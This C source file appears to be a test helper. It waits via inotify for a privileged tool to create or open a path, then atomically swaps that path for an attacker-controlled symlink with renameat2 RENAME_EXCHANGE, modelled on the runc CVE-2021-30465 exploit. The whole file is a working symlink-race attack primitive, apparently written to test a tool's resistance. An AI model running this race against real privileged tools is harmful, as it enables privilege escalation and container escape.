/* The attacker of a path a root tool resolves twice: it waits for the tool to
 * touch NAME in DIR (inotify), then swaps NAME for DECOY, a symbolic link of
 * its own, in one atomic step (renameat2 RENAME_EXCHANGE), as the runc
 * CVE-2021-30465 exploit did.
 *
 *   exchange create|open DIR NAME DECOY READY [TIMEOUT_MS]
 *
 * create: when NAME appears in DIR; open: when the directory DIR/NAME is
 * opened (read for a check). READY is created once the watch is in place.
 * Exit 0 after one swap, 1 when none happened before the timeout. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
# define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(int dirfd, const char *a, const char *b)
{
	return (int) syscall(SYS_renameat2, dirfd, a, dirfd, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	char buf[sizeof(struct inotify_event) + NAME_MAX + 1] __attribute__((aligned(8)));
	const char *mode, *dir, *name, *decoy, *ready;
	int timeout_ms, in, dirfd, watch, ready_fd;
	bool on_create;

	if (argc < 6) {
		fprintf(stderr, "usage: exchange create|open DIR NAME DECOY READY [TIMEOUT_MS]\n");
		return 2;
	}
	mode = argv[1], dir = argv[2], name = argv[3], decoy = argv[4], ready = argv[5];
	timeout_ms = argc > 6 ? atoi(argv[6]) : 10000;
	on_create = strcmp(mode, "create") == 0;

	dirfd = open(dir, O_PATH | O_DIRECTORY);
	in = inotify_init1(IN_CLOEXEC);
	if (dirfd < 0 || in < 0) {
		perror(dir);
		return 2;
	}
	if (on_create)
		watch = inotify_add_watch(in, dir, IN_CREATE);
	else {
		char path[PATH_MAX];

		snprintf(path, sizeof(path), "%s/%s", dir, name);
		watch = inotify_add_watch(in, path, IN_OPEN);
	}
	if (watch < 0 || (ready_fd = open(ready, O_WRONLY | O_CREAT | O_EXCL, 0644)) < 0) {
		perror("watch");
		return 2;
	}
	close(ready_fd);

	for (;;) {
		struct pollfd pfd = { .fd = in, .events = POLLIN };
		ssize_t len;

		if (poll(&pfd, 1, timeout_ms) <= 0)
			return 1;
		len = read(in, buf, sizeof(buf));
		for (char *p = buf; len > 0 && p < buf + len;) {
			struct inotify_event *event = (struct inotify_event *) p;

			if (!on_create || (event->len && strcmp(event->name, name) == 0)) {
				if (exchange(dirfd, name, decoy) != 0) {
					perror("renameat2");
					return 2;
				}
				return 0;
			}
			p += sizeof(*event) + event->len;
		}
	}
}
